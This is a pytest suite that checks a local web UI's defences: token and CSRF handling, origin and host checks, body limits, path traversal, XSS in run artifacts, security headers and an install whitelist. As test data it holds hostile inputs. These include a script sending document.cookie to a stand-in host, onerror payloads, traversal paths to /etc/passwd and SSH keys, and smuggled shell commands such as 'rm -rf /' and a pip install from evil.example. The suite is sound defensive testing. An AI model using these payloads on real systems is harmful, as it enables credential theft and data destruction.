"""What a hostile page, client or file may not do to `onecard ui`: a real server, asked by raw HTTP
and by a real browser."""

import contextlib
import json
import os
import re
import signal
import socket
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path
from urllib.parse import quote, urlsplit

import httpx
import pytest
import workbench as benches

pytest.importorskip("fastapi", reason="installed by make test")

TOKEN = "secret-of-the-test-0123456789abcdef"
NONE = {"task": "no-such-task", "command": "train"}
"""A job that cannot begin: what creates it tells 404, and has passed every guard."""


@pytest.fixture(scope="module")
def locked(session_home, tmp_path_factory):
    """A server that demands a token, as beyond loopback."""
    files = tmp_path_factory.mktemp("locked")
    words = ("--root", files, "--token", "env:UI_TEST_TOKEN")
    bench = benches.start(session_home, *words, env={"UI_TEST_TOKEN": TOKEN}, cwd=files)
    bench.files = files
    yield bench
    bench.api.headers["Authorization"] = f"Bearer {TOKEN}"
    bench.stop()


def csrf_of(html):
    return re.search(r'<meta name="csrf" content="(\w*)">', html)[1]


class Tab:
    """A browser's requests without the browser: the session's cookie and its CSRF token."""

    def __init__(self, url, token=""):
        self.client = httpx.Client(base_url=url, timeout=60)
        if token:
            assert self.client.post("/api/login", json={"token": token}).status_code == 200
        self.csrf = csrf_of(self.client.get("/").text)

    def post(self, path="/api/jobs", *, csrf=None, headers=None, **body):
        body = body or {"json": NONE}
        headers = {"Sec-Fetch-Site": "same-origin", **(headers or {})}
        if csrf := self.csrf if csrf is None else csrf:
            headers["X-CSRF-Token"] = csrf
        return self.client.post(path, headers=headers, **body)


@pytest.fixture(scope="module")
def tab(workbench):
    return Tab(workbench.url)


# token and session


@pytest.mark.parametrize("path", ["/api/jobs", "/api/openapi.json", "/api/files", "/catalog.js"])
def test_nothing_is_told_without_the_token(locked, path):
    reply = httpx.get(locked.url + path, headers={"Authorization": "Bearer wrong"})
    assert reply.status_code in (303, 401)
    assert TOKEN not in reply.text


def test_a_page_leads_to_the_login(locked):
    reply = httpx.get(f"{locked.url}/runs")
    assert (reply.status_code, reply.headers["location"]) == (303, "/login")


def test_the_token_is_as_good_as_a_session(locked):
    headers = {"Authorization": f"Bearer {TOKEN}"}
    assert httpx.get(f"{locked.url}/api/jobs", headers=headers).status_code == 200


def test_a_wrong_token_gives_no_session(locked):
    reply = httpx.post(f"{locked.url}/api/login", json={"token": "wrong"})
    assert reply.status_code == 401
    assert "set-cookie" not in reply.headers


def test_the_cookie_is_kept_from_scripts_and_other_sites(locked):
    reply = httpx.post(f"{locked.url}/api/login", json={"token": TOKEN})
    cookie = reply.headers["set-cookie"].lower()
    assert "httponly" in cookie
    assert "samesite=strict" in cookie
    assert TOKEN not in cookie


def test_a_forged_cookie_is_no_session(locked):
    for cookie in ("x", "a.b", f"a.{'0' * 40}", TOKEN, "", "a." + "é" * 40):
        headers = {"Cookie": f"onecard_session={cookie}".encode()}
        assert httpx.get(f"{locked.url}/api/jobs", headers=headers).status_code == 401


def test_cookies_of_other_programs_do_no_harm(locked):
    tab = Tab(locked.url, TOKEN)
    session = tab.client.cookies["onecard_session"]
    headers = {"Cookie": f'odd key[]="x; {{"a"}}=1; onecard_session={session}; =;;'}
    assert httpx.get(f"{locked.url}/api/jobs", headers=headers).status_code == 200


def test_a_session_outlives_a_restart_and_ends_with_its_token(tmp_path):
    def start(token):
        words = ("--root", tmp_path, "--token", "env:UI_TEST_TOKEN")
        home = tmp_path / "home"
        bench = benches.start(home, *words, env={"UI_TEST_TOKEN": token}, cwd=tmp_path)
        bench.api.headers["Authorization"] = f"Bearer {token}"
        return bench

    def status(bench, cookie):
        headers = {"Cookie": f"onecard_session={cookie}"}
        return httpx.get(f"{bench.url}/api/jobs", headers=headers).status_code

    first = start(TOKEN)
    cookie = Tab(first.url, TOKEN).client.cookies["onecard_session"]
    first.stop()
    again = start(TOKEN)
    assert status(again, cookie) == 200
    again.stop()
    changed = start(f"{TOKEN}-another")
    assert status(changed, cookie) == 401
    changed.stop()
    mode = stat.S_IMODE((tmp_path / "home" / "ui-key").stat().st_mode)
    assert mode == 0o600


def test_a_token_in_the_command_line_is_refused(onecard):
    for words in (("ui", "--no_browser"), ("mcp", "--http")):
        refusal = onecard(*words, "--port", "0", "--token", TOKEN, timeout=60)
        assert refusal.code == 2
        assert "env:NAME" in refusal.err
        assert TOKEN not in refusal.err


def test_beyond_this_machine_a_token_is_made_and_demanded(tmp_path):
    child = subprocess.Popen(
        [
            *(sys.executable, "-m", "onecard", "ui", "--no_browser", "--port", "0"),
            *("--host", "0.0.0.0", "--root", str(tmp_path)),
        ],
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        line = child.stderr.readline()
        port = re.search(r":(\d+)/", line)[1]
        token = re.search(r"#token=(\w+)", line)[1]
        assert len(token) >= 32
        url = f"http://127.0.0.1:{port}/api/jobs"
        assert httpx.get(url).status_code == 401
        assert httpx.get(url, headers={"Authorization": f"Bearer {token}"}).status_code == 200
        words = Path(f"/proc/{child.pid}/cmdline").read_bytes().decode()
        assert token not in words
    finally:
        child.send_signal(signal.SIGINT)
        child.wait(timeout=60)


def test_the_token_lies_nowhere_on_the_disk_and_in_no_process(locked, session_home):
    """After work of every kind: a job, a model's server, an error, a log."""
    api = httpx.Client(
        base_url=f"{locked.url}/api", headers={"Authorization": f"Bearer {TOKEN}"}, timeout=120
    )
    job = api.post("/jobs", json={"task": "rag", "command": "indexes"}).json()
    service = api.post("/services", json={"service": "chat"}).json()
    for _ in range(240):
        if api.get(f"/jobs/{job['id']}").json()["status"] == "done":
            break
        time.sleep(0.25)
    assert api.get(f"/jobs/{job['id']}").json()["status"] == "done"
    words = [path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline") if _mine(path)]
    assert any(service["id"].encode() in line for line in words)
    assert not any(TOKEN.encode() in line for line in words)
    for path in session_home.rglob("*"):
        if path.is_file() and not path.is_symlink() and path.stat().st_size < 8 << 20:
            assert TOKEN.encode() not in path.read_bytes(), path


def _mine(path):
    try:
        return path.stat().st_uid == os.getuid() and bool(path.read_bytes())
    except OSError:
        return False


def test_a_secret_is_never_written_into_a_job(workbench):
    values = {"api_key": "sk-of-the-test", "token": "a-very-secret-token-12345"}
    for task in ("chat", "rag", "vlm", "asr"):
        reply = workbench.api.post(
            "/services", json={"service": "", "task": task, "values": values}
        )
        assert reply.status_code in (400, 404)
    values = {"token": "a-very-secret-token-12345", "index": ""}
    reply = workbench.api.post("/services", json={"service": "notes", "values": values})
    row = workbench.api.get("/services").json()
    texts = [path.read_text() for path in (workbench.home / "jobs").glob("*/job.json")]
    assert not any("a-very-secret-token" in text for text in texts), (reply.text, row)


def test_no_page_holds_the_token(locked):
    tab = Tab(locked.url, TOKEN)
    for path in ("/", "/login", "/plan", "/jobs", "/runs", "/glossary", "/api/openapi.json"):
        html = tab.client.get(path).text
        assert TOKEN not in html
        assert (locked.home / "ui-key").read_text() not in html


def test_the_login_page_gives_no_session(locked):
    reply = httpx.get(f"{locked.url}/login")
    assert "set-cookie" not in reply.headers
    assert csrf_of(reply.text) == ""


# other sites


@pytest.mark.parametrize("host", ["evil.example", "evil.example:80", "127.0.0.1.evil.example"])
def test_a_rebound_name_is_refused(workbench, host):
    assert httpx.get(f"{workbench.url}/api/jobs", headers={"Host": host}).status_code == 403


@pytest.mark.parametrize(
    "origin", ["http://evil.example", "null", "http://127.0.0.1:1", "http://localhost:8321", "x"]
)
def test_a_foreign_origin_is_refused(workbench, tab, origin):
    assert httpx.get(f"{workbench.url}/", headers={"Origin": origin}).status_code == 403
    assert tab.post(headers={"Origin": origin}).status_code == 403


@pytest.mark.parametrize("site", ["cross-site", "same-site", "strange"])
def test_a_request_of_another_site_is_refused(workbench, tab, site):
    headers = {"Sec-Fetch-Site": site}
    assert httpx.get(f"{workbench.url}/api/jobs", headers=headers).status_code == 403
    assert tab.post(headers=headers).status_code == 403


def test_a_link_on_another_site_may_lead_here_but_change_nothing(workbench, tab):
    headers = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}
    assert httpx.get(f"{workbench.url}/runs", headers=headers).status_code == 200
    assert tab.post(headers=headers).status_code == 403


def test_the_page_itself_may_change_things(tab):
    assert tab.post().status_code == 404


def test_a_change_needs_the_token_of_its_own_session(workbench, tab):
    other = Tab(workbench.url)
    assert tab.csrf != other.csrf
    for csrf in ("", "0" * 40, other.csrf, "é"):
        headers = {"X-CSRF-Token": csrf.encode("utf-8")} if csrf else {}
        assert tab.post(csrf="", headers=headers).status_code == 403


def test_a_browser_without_a_session_changes_nothing(workbench):
    for headers in ({"Origin": workbench.url}, {"Sec-Fetch-Site": "none"}, {"Cookie": "a=b"}):
        reply = httpx.post(f"{workbench.url}/api/jobs", json=NONE, headers=headers)
        assert reply.status_code == 403


@pytest.mark.parametrize(
    "kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"]
)
def test_a_form_of_another_site_changes_nothing(workbench, tab, kind):
    """Such requests need no leave of the server: browsers send them to any site."""
    body = json.dumps(NONE)
    headers = {"Content-Type": kind, "Origin": "http://evil.example"}
    assert tab.post(headers=headers, content=body).status_code == 403
    headers.pop("Origin")
    assert tab.post(csrf="", headers=headers, content=body).status_code == 403
    # with everything right it is still no JSON
    assert tab.post(headers=headers, content=body).status_code in (415, 422)


@pytest.mark.parametrize("method", ["GET", "HEAD"])
@pytest.mark.parametrize("path", ["/api/jobs/x/stop", "/api/services/stop", "/api/doctor/fix"])
def test_reading_changes_nothing(workbench, method, path):
    assert httpx.request(method, workbench.url + path).status_code in (404, 405)


@pytest.mark.parametrize("path", ["/", "/api/jobs", "/static/api.js", "/ws"])
@pytest.mark.parametrize("origin", ["http://evil.example", ""])
def test_a_web_socket_is_refused(workbench, path, origin):
    lines = [
        f"GET {path} HTTP/1.1",
        f"Host: {urlsplit(workbench.url).netloc}",
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Version: 13",
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==",
        *([f"Origin: {origin}"] if origin else []),
    ]
    assert raw(workbench.url, "\r\n".join([*lines, "", ""]).encode()).startswith(b"HTTP/1.1 403")


def test_nothing_redirects_to_another_site(workbench):
    for path in (
        "//evil.example",
        "//evil.example/",
        "/\\evil.example",
        "/login?next=//evil",
        "/x/",
    ):
        reply = httpx.get(f"{workbench.url}{path}")
        place = reply.headers.get("location", "/")
        assert place.startswith(("/", workbench.url)), place
        assert not place.startswith("//"), place


# bodies


def raw(url, content):
    """The answer to bytes that no client would send."""
    where = urlsplit(url)
    with socket.create_connection((where.hostname, where.port), timeout=30) as link:
        with contextlib.suppress(OSError):  # the server may answer before the end
            link.sendall(content)
        answer = b""
        with contextlib.suppress(OSError):
            while b"\r\n\r\n" not in answer and (piece := link.recv(65536)):
                answer += piece
    return answer


def head(url, *lines):
    return "\r\n".join([*lines, f"Host: {urlsplit(url).netloc}", "", ""]).encode()


def test_a_chunked_body_has_a_limit(workbench):
    lines = ("POST /api/jobs HTTP/1.1", "Transfer-Encoding: chunked")
    chunk = b"100000\r\n" + b"x" * (1 << 20) + b"\r\n"
    answer = raw(workbench.url, head(workbench.url, *lines) + chunk * 34 + b"0\r\n\r\n")
    assert answer.startswith(b"HTTP/1.1 413")


@pytest.mark.parametrize(
    "length", ["99999999999", "-1", "1e3", "0x10", "5, 6", "9" * 30, "+5", "1\r\nContent-Length: 2"]
)
def test_a_length_that_lies_is_refused(workbench, length):
    lines = ("POST /api/jobs HTTP/1.1", f"Content-Length: {length}")
    answer = raw(workbench.url, head(workbench.url, *lines) + b"{}")
    assert re.match(rb"HTTP/1.1 (400|413)", answer)


def test_a_body_that_never_ends_keeps_nobody_waiting(workbench):
    where = urlsplit(workbench.url)
    links = []
    for _ in range(30):
        link = socket.create_connection((where.hostname, where.port))
        lines = ("POST /api/jobs HTTP/1.1", "Content-Length: 1000")
        link.sendall(head(workbench.url, *lines) + b"{")
        links.append(link)
    assert httpx.get(f"{workbench.url}/health").status_code == 200
    for link in links:
        link.close()


# uploads


@pytest.fixture
def upload(workbench):
    """send(name, body, offset) into an upload of its own."""
    row = workbench.api.post("/uploads", json={"name": "../../x"}).json()

    def send(name, body=b"content", offset=0, upload=""):
        path = f"/uploads/{upload or row['id']}/{name}"
        return workbench.api.put(path, content=body, params={"offset": offset})

    send.folder = Path(row["folder"])
    return send


def test_an_upload_lies_in_its_folder(workbench, upload):
    assert upload.folder.parent == workbench.home / "uploads"
    reply = upload("sub/a file.txt")
    assert Path(reply.json()["path"]) == upload.folder / "sub" / "a file.txt"
    assert (upload.folder / "sub" / "a file.txt").read_bytes() == b"content"


@pytest.mark.parametrize(
    "name",
    [
        *("..%2Fx", "a/..%2F..%2Fx", "%2e%2e/x", "%2e%2e%2f%2e%2e%2fx", "..%5C..%5Cx"),
        *("%2Fetc%2Fx", "%2F%2Fetc%2Fx", "C:%5Cx", "a%00b", "...", "..%00/x"),
        *("%E2%80%A5/x", "%EF%BC%8E%EF%BC%8E/x", "..%C0%AFx", "con", "x" * 300),
        "/".join(["y" * 190] * 21),
        "/".join(["z" * 199] * 20),
    ],
)
def test_an_upload_cannot_leave_its_folder(workbench, upload, name):
    before = outside(workbench.home, upload.folder)
    reply = upload(name)
    assert reply.status_code in (200, 400, 404)
    assert outside(workbench.home, upload.folder) == before
    if reply.status_code == 200:
        assert upload.folder in Path(reply.json()["path"]).parents


def outside(home, folder):
    """Every file of the home that is not below a folder."""
    return {
        path
        for path in home.rglob("*")
        if path.is_file() and folder not in path.parents and not {"logs", "jobs"} & {*path.parts}
    }


def test_an_upload_does_not_follow_a_link(upload, tmp_path):
    (upload.folder / "out").symlink_to(tmp_path, target_is_directory=True)
    (tmp_path / "victim").write_text("mine")
    (upload.folder / "link").symlink_to(tmp_path / "victim")
    assert upload("out/new").status_code == 400
    assert upload("link").status_code == 400
    assert (tmp_path / "victim").read_text() == "mine"
    assert not (tmp_path / "new").exists()


@pytest.mark.parametrize("other", ["..", ".", "%2e%2e", "..%2Fruns", "no-such", "%00"])
def test_an_upload_has_to_be_one(upload, other):
    assert upload("x", upload=other).status_code in (307, 400, 404, 405)


def test_a_file_is_no_folder(upload):
    assert upload("a").status_code == 200
    assert upload("a/b").status_code == 400
    assert upload("c/d").status_code == 200
    assert upload("c").status_code == 400


@pytest.mark.parametrize("offset", [1, -1, 10**30])
def test_pieces_come_in_order(upload, offset):
    assert upload("a", offset=offset).status_code in (400, 422)


# files


@pytest.fixture(scope="module")
def outsiders(workbench, tmp_path_factory):
    """Names that the page may not read."""
    secret = tmp_path_factory.mktemp("outside") / "secret.txt"
    secret.write_text("not for the page")
    files = workbench.files
    (files / "link.txt").symlink_to(secret)
    (files / "folder").symlink_to(secret.parent, target_is_directory=True)
    (files / ".hidden").mkdir()
    (files / ".hidden" / "key.txt").write_text("not for the page")
    (files / ".env").write_text("not for the page")
    return [
        *(str(secret), f"{files}/../{secret.parent.name}/secret.txt", str(files / "link.txt")),
        *(str(files / "folder" / "secret.txt"), str(files / ".env")),
        *(str(files / ".hidden" / "key.txt"), str(workbench.home / "ui-key")),
        *("/etc/passwd", "/proc/self/environ", "/dev/zero", "~/.bashrc", "~root/.ssh/id_rsa"),
        *("/", "..", "\0", f"{files}/a\0b", "x" * 5000, "//etc/passwd", "/proc/1/root/etc/passwd"),
    ]


@pytest.mark.parametrize("route", ["/file", "/files", "/rows", "/passage", "/passage/page.png"])
def test_files_outside_the_roots_are_not_read(workbench, outsiders, route):
    for path in outsiders:
        reply = workbench.api.get(route, params={"path": path})
        assert reply.status_code in (400, 403, 404, 422), (path, reply.status_code)
        assert "not for the page" not in reply.text, path
        assert "root:" not in reply.text, path


def test_rows_outside_the_roots_are_not_written(workbench, outsiders):
    for path in outsiders:
        reply = workbench.api.post("/rows", json={"path": path, "edits": {"0": None}})
        assert reply.status_code in (400, 403, 404, 422), path


def test_a_listing_leaves_hidden_names_out(workbench, outsiders):
    names = {
        row["name"]
        for row in workbench.api.get("/files", params={"path": str(workbench.files)}).json()[
            "entries"
        ]
    }
    assert "link.txt" in names
    assert not any(name.startswith(".") for name in names)


def test_settings_may_not_name_files_outside(workbench, outsiders):
    """Wherever in a job's values the path stands."""
    bad = [path for path in outsiders if path.startswith(("/", "~", ".."))]
    for path in bad:
        for value in (path, [path], ["ok", [path]], {"a": {"b": path}}, f"file:{path}", f" {path}"):
            for route, body in (
                ("/jobs", {"task": "finetune", "command": "train"}),
                ("/services", {"service": "notes"}),
                ("/plan", {"plan": "qlora"}),
                ("/fit", {"plan": "qlora"}),
            ):
                body = {**body, "values": {"dataset": value}}
                reply = workbench.api.post(route, json=body)
                error = reply.json()["error"]["what"]
                assert reply.status_code in (400, 403), (path, value, error)
                assert re.search("outside the folders|hidden|is no path", error), (value, error)


@pytest.mark.parametrize("scheme", ["file:///etc/passwd", "FILE:/etc/passwd", "file:~/.netrc"])
def test_an_address_of_a_file_is_a_path(workbench, scheme):
    body = {"plan": "qlora", "values": {"dataset": scheme}}
    error = workbench.api.post("/plan", json=body).json()["error"]["what"]
    assert "outside the folders" in error or "hidden" in error


def test_a_long_text_with_a_slash_is_no_path(workbench):
    body = {"plan": "qlora", "values": {"model": "word" * 100 + "/b"}}
    assert workbench.api.post("/plan", json=body).status_code in (400, 404)


# what runs and models write


EVIL = (
    "<script>document.title='taken'; new Image().src='ELSEWHERE'+document.cookie</script>"
    "<img src='ELSEWHERE'><link rel=stylesheet href='ELSEWHERE'><iframe src='ELSEWHERE'></iframe>"
    "<style>@import 'ELSEWHERE'; body {background: url(ELSEWHERE)}</style>"
    "<video src='ELSEWHERE'></video><object data='ELSEWHERE'></object>"
)
SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    "<script>document.documentElement.setAttribute('taken','yes')</script></svg>"
)


@pytest.fixture(scope="module")
def elsewhere():
    """Another server: (its address, the requests that came)."""
    calls = []
    listener = socket.create_server(("127.0.0.1", 0))

    def listen():
        with contextlib.suppress(OSError):
            while True:
                link, _ = listener.accept()
                calls.append(link.recv(4096))
                link.close()

    threading.Thread(target=listen, daemon=True).start()
    yield f"http://127.0.0.1:{listener.getsockname()[1]}/", calls
    listener.close()


@pytest.fixture(scope="module")
def evil_run(workbench, elsewhere):
    """A run whose artifacts a hostile model or data set wrote."""
    folder = workbench.home / "runs" / "20260101-000000-evil-abcdef"
    (folder / "artifacts").mkdir(parents=True)
    about = {"task": "<img src=x onerror=alert(1)>", "command": "train", "status": "done"}
    (folder / "run.json").write_text(json.dumps(about))
    (folder / "artifacts" / "evil.html").write_text(EVIL.replace("ELSEWHERE", elsewhere[0]))
    (folder / "artifacts" / "evil.svg").write_text(SVG)
    (folder / "artifacts" / "evil.js").write_text("document.title='taken'")
    (folder / "artifacts" / "evil.xhtml").write_text(EVIL)
    (folder / "artifacts" / "evil.css").write_text("* {display: none}")
    (folder / "artifacts" / "out").symlink_to("/etc/passwd")
    (folder / "artifacts" / "<img src=x onerror=alert(1)>.txt").write_text("x")
    return folder


def test_a_page_of_a_run_runs_no_script_and_calls_nobody(workbench, evil_run, elsewhere, browser):
    context = browser.new_context()
    page = context.new_page()
    for name in ("evil.html", "evil.svg"):
        page.goto(f"{workbench.url}/api/runs/{evil_run.name}/files/artifacts/{name}")
        page.wait_for_timeout(300)
        assert page.title() != "taken"
        assert page.locator("[taken]").count() == 0
    assert not elsewhere[1]
    context.close()


def test_names_and_texts_of_a_run_are_shown_as_text(workbench, evil_run, page):
    alerts = []
    page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
    page.goto(f"{workbench.url}/runs/{evil_run.name}")
    page.wait_for_timeout(500)
    page.goto(f"{workbench.url}/runs")
    page.wait_for_timeout(500)
    assert not alerts
    assert page.locator("img[onerror]").count() == 0


@pytest.mark.parametrize(
    ("name", "kind", "disposition"),
    [
        ("evil.html", "text/html", "inline"),
        ("evil.svg", "image/svg+xml", "inline"),
        ("evil.js", "application/octet-stream", "attachment"),
        ("evil.css", "application/octet-stream", "attachment"),
        ("evil.xhtml", "application/octet-stream", "attachment"),
    ],
)
def test_a_file_is_sent_so_that_no_page_can_use_it(workbench, evil_run, name, kind, disposition):
    reply = workbench.api.get(f"/runs/{evil_run.name}/files/artifacts/{name}")
    assert reply.headers["content-type"].startswith(kind)
    assert reply.headers["content-disposition"].startswith(disposition)
    policy = reply.headers["content-security-policy"]
    assert "sandbox" in policy
    assert "script-src" not in policy
    assert "default-src 'none'" in policy
    assert reply.headers["x-content-type-options"] == "nosniff"


@pytest.mark.parametrize(
    "name",
    ["artifacts/out", "../../ui-key", "..%2F..%2Fui-key", "%2Fetc%2Fpasswd", "artifacts", "a%00"],
)
def test_run_files_stay_in_their_folder(workbench, evil_run, name):
    reply = workbench.api.get(f"/runs/{evil_run.name}/files/{name}")
    assert reply.status_code in (400, 404)
    assert "root:" not in reply.text


# headers


@pytest.mark.parametrize(
    ("method", "path", "status"),
    [
        ("GET", "/", 200),
        ("GET", "/login", 200),
        ("GET", "/api/jobs", 200),
        ("GET", "/api/openapi.json", 200),
        ("GET", "/static/style.css", 200),
        ("GET", "/static/nothing.js", 404),
        ("GET", "/nothing", 404),
        ("GET", "/api/nothing", 404),
        ("GET", "/favicon.ico", 301),
        ("DELETE", "/", 405),
        ("POST", "/api/plan", 422),
        ("POST", "/api/jobs", 403),
        ("GET", "/api/runs?limit=x", 422),
        ("GET", "/catalog.js?lang=xx", 404),
    ],
)
@pytest.mark.parametrize("accept", ["text/html", "application/json"])
def test_every_answer_has_its_headers(workbench, method, path, status, accept):
    headers = {"Accept": accept}
    if status == 403:
        headers["Sec-Fetch-Site"] = "cross-site"
    reply = httpx.request(method, workbench.url + path, headers=headers)
    assert reply.status_code == status
    policy = reply.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'none'" in policy
    assert "unsafe" not in policy
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert reply.headers["x-frame-options"] == "DENY"
    assert reply.headers["referrer-policy"] == "no-referrer"
    assert reply.headers["cross-origin-resource-policy"] == "same-origin"
    assert reply.headers["cross-origin-opener-policy"] == "same-origin"
    assert "cache-control" in reply.headers
    assert "access-control-allow-origin" not in reply.headers


def test_refusals_before_the_page_have_headers_too(workbench):
    for headers in ({"Host": "evil.example"}, {"Origin": "http://evil.example"}):
        reply = httpx.get(workbench.url, headers=headers)
        assert reply.status_code == 403
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert "default-src 'none'" in reply.headers["content-security-policy"]


def test_an_error_shows_words_of_the_request_as_text(workbench):
    path = "/" + quote("<script>alert(1)</script>")
    reply = httpx.get(workbench.url + path, headers={"Accept": "text/html"})
    assert reply.status_code == 404
    assert "<script>alert" not in reply.text


# what the page may install


@pytest.mark.parametrize(
    "fix",
    [
        "pip install 'evil'",
        "pip install 'onecard[chat]'",
        "pip install 'onecard[rag]; touch /tmp/x'",
        "pip install 'onecard[rag] @ http://evil.example/x]'",
        "rm -rf /",
        "",
    ],
)
def test_only_what_doctor_names_is_installed(workbench, fix):
    reply = workbench.api.post("/doctor/fix", json={"fix": fix})
    named = {row["fix"] for row in workbench.api.get("/doctor").json()["checks"] if row["can_fix"]}
    assert fix not in named
    assert reply.status_code == 400
